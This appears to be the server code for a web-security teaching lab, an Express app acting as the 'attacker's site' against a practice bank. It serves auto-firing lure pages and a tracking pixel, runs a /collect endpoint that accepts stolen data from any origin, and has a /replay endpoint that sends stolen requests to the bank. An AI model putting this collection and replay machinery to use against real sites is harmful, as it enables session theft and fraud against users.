import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import express, { type Express, type Request, type Response } from 'express';
import { bounds, createCollector, type Loot } from './collector.ts';
import { attackPage, isAttack, screenPage, visitPage, type Start } from './pages.ts';
import { replay, stolenIn, type Address } from './replay.ts';
import { runPage, stepsOf, type RunSites } from './runner.ts';

const studentShape = /^[\w-]{22}$/;
/** Requests of this server to the bank at the same time. */
const replaysAtMost = 10;
const visitorMs = 1_800_000;
/** A transparent GIF of one pixel. */
// cspell:disable-next-line
const pixel = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/**
 * The attacker's site. It knows nothing of the app: it has pages, keeps what is sent to it, and uses what it has stolen.
 */
export function createAttacker({
  sites,
  bankAddress,
  now,
}: {
  /** Origins of the bank and of this server in the browser. */
  sites: RunSites;
  /** Where this server reaches the bank. */
  bankAddress: Address;
  now: () => number;
}): Express {
  const { bank } = sites;
  const collector = createCollector(now);
  let replays = 0;
  const app = express();
  app.disable('x-powered-by');
  app.set('etag', false);
  app.set('query parser', 'simple');
  app.use((_req, res, next) => {
    res.set({ 'Cache-Control': 'no-store', 'X-Content-Type-Options': 'nosniff' });
    next();
  });

  app.get('/healthz', (_req, res) => void res.json({ ok: true }));
  app.use('/static', express.static(join(import.meta.dirname, '../pages/static')));

  /** Students know this address as the prize page. */
  app.get(['/prize', '/attack/:name'], (req, res) => {
    const name = String(req.params['name'] ?? 'form');
    const student = studentOf(req, res);
    if (student === undefined) return;
    if (!isAttack(name)) {
      res.sendStatus(404);
      return;
    }
    const start = startOf(req);
    const invitation = start === 'soon' ? { invitation: 'You do not have to press anything.' } : {};
    res.type('html').send(attackPage(name, { student, bank, start, ...invitation }));
  });

  /** One step of a run through many attacks, in one window. */
  app.get('/run', (req, res) => {
    const student = studentOf(req, res);
    if (student === undefined) return;
    const { plan, at: position = '0' } = req.query;
    const steps = typeof plan === 'string' ? stepsOf(plan) : undefined;
    const at = Number(position);
    if (typeof plan !== 'string' || steps === undefined || !Number.isInteger(at) || at < 0) {
      res.sendStatus(400);
      return;
    }
    const { origin, html } = runPage(steps, { plan, at, student, sites });
    if (new URL(origin).host === req.headers.host) res.type('html').send(html);
    else res.redirect(303, `${origin}${req.originalUrl}`);
  });

  app.get('/visit', (req, res) => {
    const student = studentOf(req, res);
    if (student === undefined) return;
    res.type('html').send(visitPage({ student, bank, start: startOf(req) }));
  });

  app.get('/pixel.gif', (req, res) => {
    const student = studentOf(req, res);
    if (student === undefined) return;
    const known = /(?:^|; )visitor=([\w-]{11})(?:;|$)/.exec(req.headers.cookie ?? '')?.[1];
    const visitor = known ?? randomBytes(8).toString('base64url');
    const text = `${known === undefined ? 'new' : 'known'} visitor ${visitor}`;
    collector.add(student, { kind: 'pixel', text, ...sourceOf(req) });
    res.cookie('visitor', visitor, { maxAge: visitorMs, sameSite: 'none', secure: true, httpOnly: true });
    res.type('gif').send(pixel);
  });

  const collect = (req: Request, res: Response): void => {
    // A stolen script may send from any page, and may not wait for the answer.
    res.set('Access-Control-Allow-Origin', '*');
    const student = studentOf(req, res);
    if (student === undefined) return;
    const body: unknown = req.body;
    const texts = [req.query['data'], body].filter((text) => typeof text === 'string');
    collector.add(student, { kind: 'collect', text: texts.join(' '), ...sourceOf(req) });
    res.status(204).end();
  };
  app.get('/collect', collect);
  app.post(
    '/collect',
    express.text({ limit: 2 * bounds.characters, type: () => true, inflate: false }),
    collect,
  );

  app.get('/seen', (req, res) => {
    const student = studentOf(req, res);
    if (student !== undefined) res.json({ seen: collector.seen(student) });
  });
  app.post('/forget', (req, res) => {
    const student = studentOf(req, res);
    if (student !== undefined) res.json({ forgotten: collector.forget(student) });
  });
  app.get('/screen', (req, res) => {
    const student = studentOf(req, res);
    if (student !== undefined) res.type('html').send(screenPage({ student, bank }));
  });

  app.post('/replay', express.json({ limit: 1024, inflate: false }), async (req, res) => {
    const student = studentOf(req, res);
    if (student === undefined) return;
    const stolen = stolenIn(req.body);
    if (stolen === undefined || replays >= replaysAtMost) {
      res.sendStatus(stolen === undefined ? 422 : 429);
      return;
    }
    replays += 1;
    try {
      const answer = await replay(bank, bankAddress, stolen);
      const text = `${answer.status} ${answer.text}`;
      collector.add(student, { kind: 'replay', text, origin: '', referer: '' });
      res.json(answer);
    } catch {
      res.sendStatus(502);
    } finally {
      replays -= 1;
    }
  });

  app.use((_req, res) => void res.sendStatus(404));
  // Express needs four parameters to recognise an error handler. The text of an error stays on the server.
  app.use((_error: unknown, _req: Request, res: Response, _next: unknown) => void res.sendStatus(400));
  return app;
}

/** Answers 400 and returns undefined without the id of a student. The id is safe in HTML. */
function studentOf(req: Request, res: Response): string | undefined {
  const { student } = req.query;
  if (typeof student === 'string' && studentShape.test(student)) return student;
  res.sendStatus(400);
  return undefined;
}

/** `?go` attacks at once, `?go=soon` after three seconds. Otherwise the page waits for a click. */
function startOf({ query: { go } }: Request): Start {
  if (go === undefined) return 'on-click';
  return go === 'soon' ? 'soon' : 'now';
}

const sourceOf = (req: Request): Pick<Loot, 'origin' | 'referer'> => ({
  origin: req.get('Origin') ?? '',
  referer: req.get('Referer') ?? '',
});
